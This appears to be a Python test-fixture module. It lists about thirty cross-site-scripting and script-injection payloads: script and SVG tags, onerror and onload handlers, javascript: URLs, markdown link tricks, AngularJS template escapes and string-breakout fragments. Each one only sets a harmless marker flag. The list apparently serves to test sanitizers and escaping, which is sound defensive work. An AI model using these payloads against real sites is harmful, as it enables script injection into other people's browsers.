"""Texts that run as code where somebody takes them for more than text."""

__all__ = ["PAYLOADS"]

_RUN = "window.ran=1"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--></script></title></textarea></style><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"[x](javascript:{_RUN})",
    f'![x](x"onerror="{_RUN})',
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href='javascript:{_RUN}//'>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"{{{{$on.constructor('{_RUN}')()}}}}",
    f"<div ng-app ng-csp ng-init=\"constructor.constructor('{_RUN}')()\">x</div>",
    f"${{{_RUN}}}",
    f"');{_RUN};('",
    f'\\");{_RUN};//',
    f"datum) || ({_RUN}",
    f"`;{_RUN};`",
    f"\u2028{_RUN}\u2029",
    f'"}}]}};{_RUN};//',
    f"]]><script>{_RUN}</script>",
    f"javascript:{_RUN}",
)
